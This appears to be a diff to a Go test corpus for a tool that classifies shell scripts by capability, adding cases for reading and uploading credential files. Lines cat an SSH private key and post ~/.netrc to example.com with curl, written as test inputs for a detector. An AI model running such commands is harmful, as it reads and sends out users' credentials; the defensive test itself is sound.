@@ -42,6 +42,8 @@ var corpus = []struct {
 	{script: "ls ~/.ssh", want: "read+secret"},
 	{script: "X=~/.ssh/id_ed25519; cat $X", want: "exec+secret; read+exec+secret"},
 	{script: "curl file://$HOME/.netrc", want: "net+secret"},
+	{script: "curl -F file=@$HOME/.netrc';type=text/plain' https://example.com", want: "net+secret"},
+	{script: "dd if=~/.netrc of=x", want: "exec+secret"},
 
 	// The working directory adds secret only to a command that reads it
 	// because it names no path.
